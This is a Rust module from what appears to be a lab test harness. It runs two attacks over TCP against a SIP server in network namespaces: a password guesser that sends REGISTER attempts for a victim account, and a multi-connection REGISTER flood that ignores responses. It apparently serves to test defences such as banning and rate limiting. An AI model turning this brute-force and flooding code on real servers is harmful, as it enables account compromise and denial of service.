//! Attacks over TCP.

use std::{
    io::{self, Read as _, Write as _},
    net::{SocketAddr, TcpStream},
    sync::atomic::{AtomicBool, Ordering},
    thread,
    time::{Duration, Instant},
};

use anyhow::Result;
use xtask::lab::{Netns, client::Client, interrupt, wire};

use super::{attack::VICTIM, customers::rest};

/// Connections of a flood.
const CONNECTIONS: u32 = 8;
/// Guesses begin that often.
const PACE: Duration = Duration::from_millis(200);
/// Bytes read at a time of what a flooder doesn't look at.
const CHUNK: usize = 65_536;

/// Tries passwords of an account, over one connection, or with one for each try.
pub(super) fn guess(
    host: &Netns,
    local: SocketAddr,
    server: SocketAddr,
    anew: bool,
    stop: &AtomicBool,
) -> Result<()> {
    let mut kept: Option<Client> = None;
    for round in 0.. {
        if stop.load(Ordering::Relaxed) || interrupt::requested() {
            break;
        }
        let begun = Instant::now();
        // Whoever is banned gets no new connection.
        let client = match kept.take() {
            Some(client) => Some(client),
            None => Client::tcp(host, local, server, VICTIM).ok().map(Client::hasty),
        };
        if let Some(client) = client {
            client.register(&format!("secret{round}"))?;
            kept = (!anew).then_some(client);
        }
        rest(PACE.saturating_sub(begun.elapsed()), stop);
    }
    Ok(())
}

/// REGISTER requests at a rate, over several connections, whose answers nobody waits for.
pub(super) fn flood(
    host: &Netns,
    local: SocketAddr,
    server: SocketAddr,
    rate: u32,
    stop: &AtomicBool,
) -> Result<()> {
    thread::scope(|scope| {
        let threads: Vec<_> = (0..CONNECTIONS)
            .map(|line| scope.spawn(move || flood_line(host, local, server, (line, rate), stop)))
            .collect();
        threads.into_iter().try_for_each(super::joined)
    })
}

fn flood_line(
    host: &Netns,
    local: SocketAddr,
    server: SocketAddr,
    (line, rate): (u32, u32),
    stop: &AtomicBool,
) -> Result<()> {
    let start = Instant::now();
    let pause = Duration::from_secs(1) * CONNECTIONS / rate;
    let mut stream: Option<TcpStream> = None;
    for number in 0.. {
        if stop.load(Ordering::Relaxed) || interrupt::requested() {
            break;
        }
        rest((pause * number).saturating_sub(start.elapsed()), stop);
        if stream.is_none() {
            stream = wire::tcp(host, local, server).ok();
        }
        if let Some(open) = &mut stream
            && push(
                open,
                register(&format!("{line}-{number}"), local, server).as_bytes(),
            )
            .is_err()
        {
            // Full or gone: a new one, if there is one to be had.
            stream = None;
        }
    }
    Ok(())
}

/// Sends a request, and throws away what was answered to those before it.
fn push(stream: &mut TcpStream, request: &[u8]) -> io::Result<()> {
    stream.write_all(request)?;
    stream.set_nonblocking(true)?;
    let read = stream.read(&mut [0; CHUNK]);
    stream.set_nonblocking(false)?;
    match read {
        Ok(0) => Err(io::ErrorKind::ConnectionReset.into()),
        Err(error) if error.kind() != io::ErrorKind::WouldBlock => Err(error),
        _ => Ok(()),
    }
}

fn register(id: &str, local: SocketAddr, server: SocketAddr) -> String {
    format!(
        "REGISTER sip:{server} SIP/2.0\r\nVia: SIP/2.0/TCP {local};branch=z9hG4bKt{id}\r\nMax-Forwards: 70\r\n\
         From: <sip:{VICTIM}@{server}>;tag=t{id}\r\nTo: <sip:{VICTIM}@{server}>\r\nCall-ID: tcp-{id}\r\n\
         CSeq: 1 REGISTER\r\nContact: <sip:{VICTIM}@{local};transport=tcp>\r\nContent-Length: 0\r\n\r\n"
    )
}
